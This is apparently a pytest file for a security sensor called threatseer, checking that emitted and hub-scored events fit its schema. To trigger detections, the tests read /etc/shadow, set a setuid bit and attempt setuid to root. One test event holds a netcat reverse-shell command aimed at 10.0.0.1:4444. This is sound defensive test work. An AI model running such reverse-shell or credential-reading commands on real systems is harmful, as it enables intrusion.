"""Every field the sensor emits, for every family of event, is in the schema (common/ecs.py)
with the type it is sent as, and every event passes the hub's schema check; so is every field
the hub adds when it scores an event."""

from __future__ import annotations

import os
import socket
import subprocess
from pathlib import Path

from threatseer.common import ecs
from threatseer.hub.config import ActionConfig
from threatseer.hub.rules.bundle import default_bundle_dir, load_bundle
from threatseer.hub.scoring import Pipeline
from threatseer.hub.validate import problems

from .conftest import action  # noqa: TID252

# Python types an event's values arrive as, per schema type.
PY_TYPES: dict[str, tuple[type, ...]] = {
    "keyword": (str, int), "wildcard": (str,), "text": (str,), "date": (str,),
    "ip": (str,), "long": (int,), "unsigned_long": (int,), "float": (int, float),
    "boolean": (bool,), "object": (dict,),
}


def undocumented(flat: dict) -> list[str]:
    """Fields of ``flat`` the schema lacks, or whose value is not of the schema's type."""
    bad = []
    for name, value in flat.items():
        f = ecs.field(name)
        if f is None:
            bad.append(f"{name}: not in the schema")
            continue
        values = value if f.array and isinstance(value, list) else [value]
        if f.array != isinstance(value, list) and value != []:
            bad.append(f"{name}: list expected" if f.array else f"{name}: list not expected")
        for v in values:
            if not isinstance(v, PY_TYPES[f.type]):
                bad.append(f"{name}: {type(v).__name__} is not {f.type}")
    return bad


def test_every_family_of_sensor_event_is_in_the_schema(start_sensor, tmp_path: Path) -> None:
    watched = tmp_path / "watched"
    watched.mkdir()
    sensor = start_sensor(sensitive_paths=["/etc/shadow"], watched_paths=[f"{watched}/"])
    subprocess.run(["/bin/cat", "/etc/shadow"], stdout=subprocess.DEVNULL, check=True)
    target = watched / "f"
    target.write_text("x")
    os.chmod(target, 0o4755)
    os.rename(target, watched / "g")
    os.unlink(watched / "g")
    with socket.socket() as srv:
        srv.bind(("127.0.0.1", 0))
        srv.listen(1)
        with socket.create_connection(srv.getsockname()):
            srv.accept()[0].close()
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as udp:
        query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x07example\x03com\x00\x00\x01\x00\x01"
        udp.sendto(query, ("127.0.0.1", 53))
    os.close(os.memfd_create("ts-schema", 0))
    pid = os.fork()
    if pid == 0:
        os.setresuid(1000, 0, 0)
        os.setuid(0)
        os._exit(0)
    os.waitpid(pid, 0)
    sensor.wait_for(lambda e: action("setuid")(e) and e["process"]["pid"] == pid)
    sensor.stop()
    flat = [ecs.flatten(e) for e in sensor.events]
    seen = {e["event.action"] for e in flat}
    assert seen >= {"exec", "fork", "exit", "open", "create", "chmod", "rename", "unlink",
                    "listen", "connect", "accept", "dns-query", "memfd-create", "setuid",
                    "sensor-health"}, seen
    wrong = {p for e in flat for p in undocumented(e)}
    assert "\n".join(sorted(wrong)) == ""
    for e in flat:
        assert (e["event.category"], e["event.type"]) == tuple(ecs.CATEGORIES[e["event.action"]])
        assert problems([e]) == [], e  # what the hub's schema check would refuse


def test_the_fields_the_hub_adds_are_in_the_schema() -> None:
    events = [{"@timestamp": "2026-12-05T00:00:00.000000Z", "event.kind": "event",
               "event.category": ["process"], "event.type": ["start"], "event.action": "exec",
               "process.pid": 1, "process.executable": "/bin/nc", "process.name": "nc",
               "process.args": ["nc", "-e", "/bin/sh", "10.0.0.1", "4444"],
               "process.command_line": "nc -e /bin/sh 10.0.0.1 4444", "process.parent.pid": 1}]
    bundle = load_bundle(default_bundle_dir())
    res = Pipeline(ActionConfig(), bundle, None).score(events, "s1", 3, 0.0)
    assert res.emitted and res.emitted[0]["threatseer.indicators"]
    for e in res.emitted:
        assert undocumented(e) == []
